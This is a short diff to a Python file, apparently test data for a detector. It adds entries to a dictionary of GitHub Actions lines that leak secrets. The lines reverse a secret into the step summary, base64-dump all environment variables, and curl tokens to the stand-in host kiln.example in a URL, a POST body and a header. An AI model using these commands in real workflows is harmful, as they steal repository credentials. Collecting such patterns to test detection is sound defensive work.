@@ -36,6 +36,8 @@ def runs(script: str) -> str:
 
 
 SENT = {
+    "backwards in the summary": 'echo "$GLAZE" | rev >> "$GITHUB_STEP_SUMMARY"',
+    "among all variables": "echo '${{ toJSON(env) }}' | base64",
     "in an address": "curl https://kiln.example/in?pot=${{ secrets.GITHUB_TOKEN }}",
     "as data": "curl -s -X POST -d 'POT=${{ secrets.POT_TOKEN }}' https://kiln.example",
     "in a header": 'curl -H "X-Pot: $GLAZE" https://kiln.example',
